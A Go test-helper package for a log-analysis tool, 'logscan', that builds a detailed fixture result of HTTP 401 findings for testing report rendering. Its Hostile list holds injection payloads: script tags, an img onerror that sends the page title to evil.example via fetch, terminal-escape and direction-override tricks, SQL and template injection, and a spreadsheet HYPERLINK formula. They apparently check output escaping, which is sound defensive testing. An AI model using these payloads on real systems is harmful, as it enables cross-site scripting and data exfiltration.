// Package reporttest holds the results that tests of the report's packages render, and
// helpers for them. Only tests import it.
package reporttest

import (
	"errors"
	"fmt"
	"iter"
	"math"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"logscan/analyze/detect"
	"logscan/analyze/result"
	"logscan/parse"
	"logscan/parse/advice"
	"logscan/parse/field"
	"logscan/parse/serverconf"
	"logscan/parse/serverconf/rules"
	"logscan/report/document"
)

// Hostile holds texts as attackers write them into logs: markup, terminal escapes,
// overrides of the writing direction, quotes, invalid UTF-8, NUL.
var Hostile = []string{
	`<script>alert(1)</script>`,
	`"><img src=x onerror="fetch('//evil.example/'+document.title)">`,
	`' onmouseover='alert(1)' style='x:expression(alert(1))`,
	`</style><style>*{display:none}</style></title></svg>`,
	`{{.Verdict}} ${7*7} javascript:alert(1)`,
	"\x1b[2J\x1b]0;owned\x07\x1b[31mred\r\nfake line",
	"invoice\u202egpj.exe\u2066\u200b\ufeff\u2028\u2029",
	"\u009b31m\u0085\u00a0\x7f\x00",
	"\xff\xfe\xc0\x80 not UTF-8",
	`O'Reilly "quoted" \ ; DROP TABLE x; --`,
	"\U000e0041\U0001f600 tags and smileys",
	`=HYPERLINK("https://evil.example/","x")`,
	strings.Repeat("A", 1500),
}

// At returns a time of the day of Result in Unix microseconds.
func At(hour, minute, second int) int64 {
	return time.Date(2026, 3, 9, hour, minute, second, 0, time.UTC).UnixMicro()
}

// CauseIndex returns the index of a cause in detect.CauseNames.
func CauseIndex(name string) int {
	for i, n := range detect.CauseNames() {
		if n == name {
			return i
		}
	}
	panic("no cause " + name)
}

// Pieces returns rows of a list. If err is not nil, the last row fails with it.
func Pieces(rows []result.Unauthorized, err error) result.Pieces[result.Unauthorized] {
	return PiecesOf(len(rows), func(i int) (result.Unauthorized, error) {
		if i == len(rows)-1 && err != nil {
			return result.Unauthorized{}, err
		}
		return rows[i], nil
	})
}

// PiecesOf returns n rows that at makes.
func PiecesOf[R any](n int, at func(i int) (R, error)) result.Pieces[R] {
	return result.Pieces[R]{Len: n, Reader: func() func(from, to int) iter.Seq2[*R, error] {
		return func(from, to int) iter.Seq2[*R, error] {
			return func(yield func(*R, error) bool) {
				var row R // shared: a row is valid until the next one
				var err error
				for i := from; i < to; i++ {
					if row, err = at(i); err != nil {
						yield(nil, err)
						return
					}
					if !yield(&row, nil) {
						return
					}
				}
			}
		}
	}}
}

// IDs of the findings of Result.
const (
	endpointID = "endpoint_misconfigured-0a1b2c3d4e5f"
	expiryID   = "session_expiry-112233445566"
	accountID  = "account_failure-99aabbccddee"
	oddID      = "account_failure-000000000000"
)

// Result returns a result that has something of everything. Its sums agree: the 401s
// by minute, by cause and by row are the same.
func Result() *result.Result {
	res := &result.Result{
		Skips:   map[string]int64{"blank": 3, "comment": 1},
		Rejects: map[string]int64{"syntax": 40, "time": 2},
		Causes:  map[string]int64{},
		Since:   parse.NoTime, Until: At(24, 0, 0),
		Undetectable: []result.Undetectable{{Kind: "insecure_scheme", Missing: []string{"url_scheme"}},
			{Kind: "upstream_misconfigured", Missing: []string{"url_scheme", "upstream_address"}}},
		Notes: []result.Note{{Kind: result.NoteNoUsers}, {Kind: result.NoteInput, Name: "web1/access.log", Text: Hostile[0]}},
	}
	for _, n := range []string{"brute_force", "challenge"} { // a run has an entry for every cause
		res.Causes[n] = 0
	}
	addTimeline(res)
	addInputs(res)
	res.Findings = []result.Finding{endpointFinding(res), expiryFinding(res), accountFinding(res), oddFinding()}
	for i, s := range Hostile {
		res.Findings[3].Evidence = append(res.Findings[3].Evidence, result.Evidence{Path: s, Line: int64(i), Raw: s})
	}
	res.Totals.Findings = int64(len(res.Findings))

	for i, s := range Hostile {
		res.RejectedLines = append(res.RejectedLines, result.RejectedLine{Path: "web2/access.log.1.gz", Line: int64(i + 1), Reason: "syntax", Raw: s})
	}

	res.Resolved = []result.Finding{{
		ID: "cors_preflight-334455667788", Kind: "cors_preflight", Category: "endpoint", Severity: result.Medium, Confidence: 0.9,
		Subject: result.Subject{Type: "endpoint", Host: "api.example", Method: "OPTIONS", Route: "/v1/" + Hostile[0]}, Text: result.Text{Title: "Preflights of " + Hostile[0] + " are refused"},
		Onset: parse.NoTime, FirstSeen: At(0, 1, 0), LastSeen: At(23, 0, 0), Unauthorized: 88, Actors: 12,
		Change: &result.Change{Status: result.StatusResolved, Severity: result.Medium, Unauthorized: 88},
	}}
	addExhibits(res.Findings)
	addRows(res)
	addResidual(res)
	addEvents(res)
	return res
}

// addEvents adds the events of error logs.
func addEvents(res *result.Result) {
	res.AuthEvents = &result.AuthEvents{Sources: []result.EventSource{
		{Kind: "nginx-error", Name: "web1/error.log", Events: 140, Matched: 120, Ambiguous: 3, Unmatched: 9, Offset: 3600e6},
		{Kind: "keycloak-events", Name: Hostile[0], Events: 20, Unmatched: 20, Offset: -2e6},
	}}
	var rows []result.AuthEvent
	for i, s := range Hostile {
		rows = append(rows, result.AuthEvent{
			Time: At(10, 0, i), Kind: "nginx-error", Code: s, Outcome: "refused", Reason: s, Status: int32(401 * (i % 2)), Method: s, Path: s, Host: s, Client: s, User: s,
			LogPath: s, LogLine: int64(i + 1), Join: "matched", Key: "request", MatchedPath: s, MatchedLine: int64(i) - 1, FindingID: accountID,
		})
	}
	res.AuthEvents.Rows = PiecesOf(len(rows), func(i int) (result.AuthEvent, error) { return rows[i], nil })
}

// addResidual adds what is known of the unexplained 401s, and reasons that the log
// states.
func addResidual(res *result.Result) {
	r := &result.Residual{
		Unexplained: res.Totals.Unexplained, Clients: 9, AcceptedClients: 8, Others: result.Counts{Requests: 90, Accepted: 70, Redirected: 15, NotFound: 5},
		FirstTime: At(0, 0, 0), LastTime: At(23, 20, 0), BusiestHour: At(10, 0, 0), InBusiestHour: 2,
		Reason:  &result.Reason{Text: Hostile[0], Class: field.KeyReason, N: 20, Stated: 22, Of: res.Totals.Unexplained},
		Missing: []advice.Gap{{Extra: parse.ExtraUser, Why: "Nothing shows whose credentials are refused."}},
		Dimensions: []result.Dimension{
			{Name: "endpoint", Distinct: int64(len(Hostile)) + 1, Top: []result.Place{{Name: "GET shop.example/cart", Unexplained: 20, Unauthorized: 40, Requests: 500}}},
			{Name: "client_address", Distinct: 1, Top: []result.Place{{Name: "192.0.2.1", Unexplained: 29, Unauthorized: 7000, Requests: res.Totals.Parsed}}},
		},
	}
	for _, s := range Hostile[:result.MaxPlaces-1] {
		r.Dimensions[0].Top = append(r.Dimensions[0].Top, result.Place{Name: s, Unexplained: 1, Unauthorized: 1, Requests: 1})
	}
	res.Residual = r
	res.Findings[2].Reason, res.Findings[2].AnsweredBy = &result.Reason{Text: "account_locked", Class: field.AccountReason, N: 56, Stated: 56, Of: 56}, field.Upstream
}

// addTimeline adds the 401s: by minute, by cause, and each as a row.
func addTimeline(res *result.Result) {
	var rows []result.Unauthorized
	causes := detect.CauseNames()
	for minute := range 24 * 60 {
		for h, host := range []string{"shop.example", "api.example"} {
			m := result.Minute{Time: At(0, minute, 0), Host: host, Causes: make([]int64, len(causes))}
			day := 1 + math.Sin(float64(minute-360)/1440*2*math.Pi)
			m.Accepted = int64(40*day) + 10
			m.Redirected, m.NotFound, m.ServerErrors = 2, 1, int64(minute%97/96)
			add := func(cause, finding string, n int64) {
				m.Causes[slices.Index(causes, cause)] += n
				m.Unauthorized += n
				res.Causes[cause] += n
				for k := range n {
					rows = append(rows, result.Unauthorized{
						Time: m.Time + k*1e6, Method: "GET", Path: fmt.Sprintf("/orders/%d", minute), Query: "token=REDACTED", Template: "/orders/{id}",
						Status: 401, BodySize: 90, Duration: 1500 + k, Host: host, Client: "192.0.2.1", UserAgent: "Mozilla/5.0",
						User: []string{"", "alice", "bob"}[k%3], LogPath: "web1/access.log", LogLine: int64(minute)*10 + k + 1,
						Cause: cause, FindingID: finding, TokenExpiry: parse.NoTime,
					})
				}
			}
			add("challenge", "", int64(day))
			if h == 0 {
				add("session_expiry", expiryID, int64(2*day))
				if minute%7 == 0 {
					add("login_failure", "", 1)
				}
				if minute%50 == 0 {
					add("unexplained", "", 1)
				}
				if minute >= 600 && minute%30 == 0 {
					add("account_failure", accountID, 2)
				}
			} else if minute >= 14*60+5 {
				add("endpoint_misconfigured", endpointID, int64(6*day)+int64(minute%5))
			}
			m.Requests = m.Accepted + m.Redirected + m.Unauthorized + m.NotFound + m.ServerErrors
			res.Timeline = append(res.Timeline, m)
			res.Totals.Parsed += m.Requests
			res.Totals.Unauthorized += m.Unauthorized
		}
	}
	// A wrong clock must not compress the chart.
	stray := result.Minute{Time: time.Date(2099, 1, 1, 0, 0, 0, 0, time.UTC).UnixMicro(), Host: Hostile[0], Causes: make([]int64, len(causes))}
	stray.Requests, stray.Unauthorized = int64(len(Hostile)), int64(len(Hostile))
	stray.Causes[slices.Index(causes, "anonymous")] = int64(len(Hostile))
	res.Causes["anonymous"] += int64(len(Hostile))
	res.Timeline = append(res.Timeline, stray)
	res.Totals.Parsed += stray.Requests
	res.Totals.Unauthorized += stray.Unauthorized
	for i, s := range Hostile {
		rows = append(rows, result.Unauthorized{
			Time: stray.Time + int64(i), Method: s, Path: s, Query: s, Template: s, Scheme: s, Status: 401, BodySize: -1, Duration: -1,
			Host: s, Referrer: s, Client: s, Peer: s, UserAgent: s, User: s, SessionID: s, Upstream: s, LogPath: s, LogLine: 1,
			Cause: "anonymous", Reason: s, AnsweredBy: "proxy", TokenExpiry: stray.Time,
		})
	}
	res.Totals.FirstTime, res.Totals.LastTime = At(0, 0, 0), stray.Time
	res.Totals.Unexplained = res.Causes["unexplained"]
	res.Unauthorized = Pieces(rows, nil)
	requests := Pieces(rows, nil)
	res.Requests = &requests
	res.Refusals = func(yield func(result.Refusal) bool) {
		for i := range rows {
			r := &rows[i]
			x := result.Refusal{Time: r.Time, Endpoint: 1, Account: i%14 - 1, Client: i % 14, Upstream: i%3 - 1, Cause: slices.Index(causes, r.Cause), Finding: -1}
			if r.Host == "api.example" {
				x.Endpoint = 0
			}
			for k := range res.Findings {
				if r.FindingID == res.Findings[k].ID {
					x.Finding = k
				}
			}
			if !yield(x) {
				return
			}
		}
	}
}

// addInputs adds inputs that hold the 401s.
func addInputs(res *result.Result) {
	res.Inputs = []result.Input{
		{Path: "web1/access.log", Format: "combined", Compression: "none", Bytes: 9_000_000, Lines: 60_000, Parsed: 60_000, FirstTime: At(0, 0, 0), LastTime: At(23, 59, 59)},
		{Path: "web2/access.log.1.gz", Format: "combined", Compression: "gzip", Bytes: 8_000_000, Rejected: 42, Skipped: 4, FirstTime: At(0, 0, 3), LastTime: At(23, 10, 0),
			Error: "unexpected end of gzip data at byte 1204224"},
		{Path: Hostile[1], Format: Hostile[2], Compression: "zstd", FirstTime: parse.NoTime, LastTime: parse.NoTime, Error: Hostile[5]},
	}
	res.Inputs[0].Missing = []string{"session", "host"}
	res.Formats = fixtureFormats()
	second := &res.Inputs[1]
	second.Parsed = res.Totals.Parsed - res.Inputs[0].Parsed
	second.Lines = second.Parsed + second.Rejected + second.Skipped
	second.Unauthorized = res.Totals.Unauthorized
	for i := range res.Inputs {
		in := &res.Inputs[i]
		res.Totals.Bytes += in.Bytes
		res.Totals.Lines += in.Lines
		res.Totals.Rejected += in.Rejected
		res.Totals.Skipped += in.Skipped
	}
}

func endpointFinding(res *result.Result) result.Finding {
	return result.Finding{
		ID: endpointID, Kind: "endpoint_misconfigured", Category: "endpoint", Severity: result.High, Confidence: 0.98,
		Change:  &result.Change{Status: result.StatusNew},
		Subject: result.Subject{Type: "endpoint", Host: "api.example", Method: "GET", Route: "/v2/orders/{id}"},
		Text: result.Text{
			Title: "GET api.example/v2/orders/{id} refuses 97% of its signed-in users since 2026-03-09 14:05:12 UTC",
			Explanation: "312 actors were refused here while the same sessions were accepted on other routes within 10 minutes before and after, without a new sign-in: " +
				"their credentials were valid. 97% of the actors that requested this route were refused (at least 94% with 95% confidence); on a healthy route it is up to 1.2%. " +
				"Before, the route accepted them: the last accepted request was at 2026-03-09 14:04:58 UTC, the first refusal at 2026-03-09 14:05:12 UTC.",
			Remediation: []string{
				"Check what changed at the onset: a deployment, a reload of the proxy, a changed route.",
				"Compare the route's authentication with that of a route that works: nginx auth_basic, auth_request and proxy_set_header Authorization, Apache AuthType, Require and .htaccess.",
				"Replay one of the sample requests with a session that works elsewhere: does the proxy or the application refuse it?",
			},
		},
		Onset: At(14, 5, 12), FirstSeen: At(14, 5, 12), LastSeen: At(23, 59, 41), Unauthorized: res.Causes["endpoint_misconfigured"], Actors: 312, Users: 287,
		Details: map[string]any{"refused_share": 0.9712, "refused_share_low": 0.94, "baseline_share": 0.012, "p_value": 3.2e-41,
			"accepted": int64(18_204), "ongoing": true, "onset_low": "2026-03-09T14:04:58Z", "onset_high": "2026-03-09T14:05:12Z"},
		Configuration: &result.Configuration{Facts: []rules.Fact{{Kind: rules.AuthorizationCleared, Certainty: rules.Certain, Name: "Authorization", Lines: []rules.Line{
			{Position: serverconf.Position{File: "/etc/nginx/sites/api.conf", Line: 31}, Directive: `proxy_set_header Authorization ""`},
		}}}},
		Evidence: []result.Evidence{
			{Path: "web2/access.log.1.gz", Line: 48_211, Raw: `192.0.2.44 - alice [09/Mar/2026:14:05:12 +0000] "GET /v2/orders/8812?token=REDACTED HTTP/1.1" 401 90 "-" "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36"`},
			{Path: "web2/access.log.1.gz", Line: 48_260, Raw: `198.51.100.7 - carol [09/Mar/2026:14:05:19 +0000] "GET /v2/orders/17 HTTP/1.1" 401 90 "-" "shop-ios/4.2"`},
		},
	}
}

func expiryFinding(res *result.Result) result.Finding {
	return result.Finding{
		ID: expiryID, Kind: "session_expiry", Category: "session", Severity: result.Medium, Confidence: 0.95,
		Change:  &result.Change{Status: result.StatusWorse, Severity: result.Low, Unauthorized: 1200, Ratio: 2.46, PValue: 1e-30},
		Subject: result.Subject{Type: "session_policy", Host: "shop.example"},
		Text: result.Text{
			Title: "Sessions on shop.example time out after 30 minutes idle",
			Explanation: "1,204 of 3,168 accepted sessions (38%) were refused and needed a new sign-in as soon as they had been idle for 30 minutes. " +
				"The timeout is between 29.8 and 30.3 minutes with 95% confidence.",
			Remediation: []string{"Raise the timeout or extend it on each request.", "Refresh at 80% of the lifetime."},
		},
		Onset: parse.NoTime, FirstSeen: At(6, 31, 0), LastSeen: At(23, 58, 0), Unauthorized: res.Causes["session_expiry"], Actors: 1204, Users: 980,
		Details: map[string]any{"policy": "idle", "timeout_seconds": 1800.4, "timeout_low": 1788.0, "timeout_high": 1818.0, "sessions": 1204,
			"bic_difference": math.Inf(1), "hosts": []string{"shop.example", Hostile[6]}, "quantiles": []float64{1, math.NaN(), 2.5}, "nothing": nil},
		Evidence: []result.Evidence{{Path: "web1/access.log", Line: 7, Raw: `192.0.2.9 - - [09/Mar/2026:06:31:00 +0000] "POST /cart HTTP/2.0" 401 12 "https://shop.example/" "Mozilla/5.0"`}},
	}
}

func accountFinding(res *result.Result) result.Finding {
	return result.Finding{
		ID: accountID, Kind: "account_failure", Category: "account", Severity: result.Medium, Confidence: 0.9,
		Subject: result.Subject{Type: "account", User: "bob"},
		Text: result.Text{Title: "Account bob is refused since 2026-03-09 10:00:00 UTC",
			Explanation: "bob was accepted 40 times before and refused in all 56 attempts since.", Remediation: []string{"Check whether the account is locked or expired."}},
		Onset: At(10, 0, 0), FirstSeen: At(10, 0, 0), LastSeen: At(23, 30, 1), Unauthorized: res.Causes["account_failure"], Actors: 2, Users: 1,
		Details: map[string]any{"last_accepted": "2026-03-09T09:58:00Z"},
	}
}

func oddFinding() result.Finding {
	return result.Finding{
		ID: oddID, Kind: "account_failure", Category: "account", Severity: result.Low, Confidence: math.NaN(),
		Subject: result.Subject{Type: "account", Host: Hostile[3], Method: Hostile[4], Route: Hostile[0], User: Hostile[1], ClientAddress: Hostile[7], UserAgent: Hostile[8], Upstream: Hostile[10]},
		Text:    result.Text{Title: "Account " + Hostile[1] + Hostile[6] + " is refused", Explanation: strings.Join(Hostile, " "), Remediation: Hostile},
		Onset:   parse.NoTime, FirstSeen: parse.NoTime, LastSeen: parse.NoTime, Details: map[string]any{Hostile[0]: Hostile[1], "x": Hostile[5]},
	}
}

func addExhibits(findings []result.Finding) {
	findings[0].Exhibit = &result.Exhibit{Counts: result.CountsActors, Trend: &result.Trend{From: At(12, 0, 0), Step: 3600e6,
		Refused: []int64{0, 0, 40, 90, 80, 60}, Accepted: []int64{80, 90, 50, 0, 2, 0}}}
	findings[1].Exhibit = &result.Exhibit{Curve: &result.Curve{Idle: true, Timeout: 1800.4, Low: 1788, High: 1818,
		Points: []result.Point{{From: 0, To: 1, Accepted: 900}, {From: 1, To: 60, Accepted: 800, Refused: 3}, {From: 60, To: 1790, Accepted: 700, Refused: 5}, {From: 1790, To: 9000, Refused: 1204}}}}
	findings[2].Exhibit = &result.Exhibit{Counts: result.CountsTries, Parts: []result.Part{{Kind: result.BeforeOnset, Accepted: 40}, {Kind: result.SinceOnset, Refused: 56, Marked: true}}}
	findings[3].Exhibit = &result.Exhibit{}
	for _, s := range Hostile {
		findings[3].Exhibit.Parts = append(findings[3].Exhibit.Parts, result.Part{Name: s, Refused: 3})
	}
}

// addRows adds endpoints, accounts, clients, upstreams and sessions.
func addRows(res *result.Result) {
	counts := func(accepted, unauthorized int64) result.Counts {
		return result.Counts{Requests: accepted + unauthorized + 3, Accepted: accepted, Unauthorized: unauthorized, NotFound: 3}
	}
	res.Endpoints = []result.Endpoint{
		{Host: "api.example", Method: "GET", Template: "/v2/orders/{id}", Counts: counts(18_204, 4_800), Actors: 900, RefusedActors: 312, Protected: true,
			FirstTime: At(0, 0, 1), LastTime: At(23, 59, 0), FirstUnauthorized: At(14, 5, 12), LastUnauthorized: At(23, 59, 41), FindingID: endpointID},
		{Host: "shop.example", Method: "POST", Template: "/cart", Counts: counts(40_112, 2_100), Actors: 3_100, RefusedActors: 1_200, Protected: true,
			FirstTime: At(0, 0, 1), LastTime: At(23, 59, 0), FirstUnauthorized: At(6, 31, 0), LastUnauthorized: At(23, 58, 0), FindingID: expiryID},
		{Host: "shop.example", Method: "GET", Template: "/", Counts: counts(90_000, 0), Actors: 7_000,
			FirstTime: At(0, 0, 1), LastTime: At(23, 59, 0), FirstUnauthorized: parse.NoTime, LastUnauthorized: parse.NoTime},
	}
	res.Accounts = []result.Account{
		{User: "bob", Counts: counts(40, 56), Clients: 2, FirstAccepted: At(1, 0, 0), LastAccepted: At(9, 58, 0), FirstUnauthorized: At(10, 0, 0), LastUnauthorized: At(23, 30, 1), FindingID: accountID},
		{User: "mallory", Counts: counts(0, 4), Clients: 1, FirstAccepted: parse.NoTime, LastAccepted: parse.NoTime, FirstUnauthorized: At(3, 0, 0), LastUnauthorized: At(3, 0, 9)},
	}
	res.Clients = []result.Client{
		{Address: "192.0.2.44", UserAgent: "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36", Counts: counts(800, 90), Users: 1, Sessions: 2,
			RefusedEndpoints: 1, FirstTime: At(8, 0, 0), LastTime: At(18, 0, 0), LastAccepted: At(17, 59, 0), FindingID: endpointID},
		{Address: "2001:db8::7", Counts: counts(1, 12), Users: 0, Sessions: 0, RefusedEndpoints: 3, FirstTime: At(8, 0, 0), LastTime: At(8, 1, 0), LastAccepted: parse.NoTime},
	}
	res.Upstreams = []result.Upstream{{Name: "10.0.0.7:8080", Counts: counts(9000, 3000)}, {Name: Hostile[1], Counts: counts(9000, 12)}}
	for i, s := range Hostile {
		n := int64(20 - i)
		res.Endpoints = append(res.Endpoints, result.Endpoint{Host: s, Method: s, Template: s, Counts: counts(0, n), Actors: 1, RefusedActors: 1,
			FirstTime: parse.NoTime, LastTime: parse.NoTime, FirstUnauthorized: parse.NoTime, LastUnauthorized: parse.NoTime, FindingID: oddID})
		res.Accounts = append(res.Accounts, result.Account{User: s, Counts: counts(1, n), Clients: 1,
			FirstAccepted: parse.NoTime, LastAccepted: parse.NoTime, FirstUnauthorized: parse.NoTime, LastUnauthorized: parse.NoTime})
		res.Clients = append(res.Clients, result.Client{Address: s, UserAgent: s, Counts: counts(2, n), FirstTime: parse.NoTime, LastTime: parse.NoTime, LastAccepted: parse.NoTime})
	}
	sessions := []result.Session{
		{ID: "5f2b6c", User: "alice", Address: "192.0.2.44", UserAgent: "Mozilla/5.0", Host: "shop.example", Start: At(8, 0, 0), LastAccepted: At(9, 0, 0), End: At(9, 31, 0),
			Requests: 60, Accepted: 58, Unauthorized: 1, LongestGap: 1_700_500_000, StartSeen: true, EndCause: "session_expiry", FindingID: expiryID},
		{Address: Hostile[7], UserAgent: Hostile[8], Host: Hostile[9], Start: At(10, 0, 0), LastAccepted: At(10, 0, 0), End: parse.NoTime, Requests: 1, Accepted: 1},
	}
	res.Sessions = func(yield func(*result.Session, error) bool) {
		for i := range sessions {
			if !yield(&sessions[i], nil) {
				return
			}
		}
	}
}

// Empty returns the result of reading nothing.
func Empty() *result.Result {
	return &result.Result{Totals: result.Totals{FirstTime: parse.NoTime, LastTime: parse.NoTime}}
}

// Run returns the run that manifests of tests are about.
func Run() document.Run {
	started := time.Date(2026, 3, 10, 2, 0, 0, 0, time.UTC)
	return document.Run{
		ToolName: "logscan", Version: "v0.1.0", Commit: "abc", Arguments: []string{"scan", "web*/access.log*"},
		Started: started, Finished: started.Add(2 * time.Second), WallSeconds: 2, CPUSeconds: 3.5, PeakRSSBytes: 100 << 20,
	}
}

// lacking returns a format whose lines have none of the missing fields.
func lacking(f *parse.Format, name string, logged []parse.Extra, missing ...parse.Extra) result.LogFormat {
	p := parse.Presence{Lines: 1204, Refused: 31}
	for x := range p.Has {
		p.Has[x], p.Logged[x] = 400, true
	}
	for _, x := range missing {
		p.Has[x] = 0
		p.Logged[x] = slices.Contains(logged, x)
	}
	return result.LogFormat{Name: name, Inputs: 2, Presence: p, Advice: advice.For(f, &p, nil)}
}

// fixtureFormats returns the formats of Result: one that lacks some fields, one that
// lacks none, one given by a user.
func fixtureFormats() []result.LogFormat {
	combined, _ := parse.Lookup("combined")
	return append([]result.LogFormat{
		lacking(combined, combined.Name, []parse.Extra{parse.ExtraUser}, parse.ExtraUser, parse.ExtraSession, parse.ExtraHost, parse.ExtraUpstream, parse.ExtraScheme),
		lacking(combined, "complete", nil),
	}, HostileFormats(Hostile[2])...)
}

// HostileFormats returns a format with a hostile name that lacks a field.
func HostileFormats(s string) []result.LogFormat {
	f := &parse.Format{Name: s, Native: "$remote_addr " + s}
	return []result.LogFormat{lacking(f, s, nil, parse.ExtraSession)}
}

// Printable fails t if text has a control or invisible character.
func Printable(t *testing.T, name, text string) {
	t.Helper()
	if !utf8.ValidString(text) {
		t.Errorf("%s is not valid UTF-8", name)
	}
	for i, r := range text {
		if r != '\n' && !strconv.IsPrint(r) {
			t.Errorf("%s: %U at %d: %q", name, r, i, text[max(0, i-20):min(len(text), i+20)])
			return
		}
	}
}

// FailingWriter fails with ErrFull after Left bytes.
type FailingWriter struct{ Left int }

// ErrFull is the error of FailingWriter.
var ErrFull = errors.New("no space left")

func (w *FailingWriter) Write(b []byte) (int, error) {
	if w.Left -= len(b); w.Left < 0 {
		return 0, ErrFull
	}
	return len(b), nil
}

// Put writes a file and creates its directory.
func Put(t *testing.T, path, text string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(text), 0o644); err != nil {
		t.Fatal(err)
	}
}

// Names returns the names in a directory.
func Names(t *testing.T, dir string) []string {
	t.Helper()
	entries, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	var all []string
	for _, e := range entries {
		all = append(all, e.Name())
	}
	return all
}
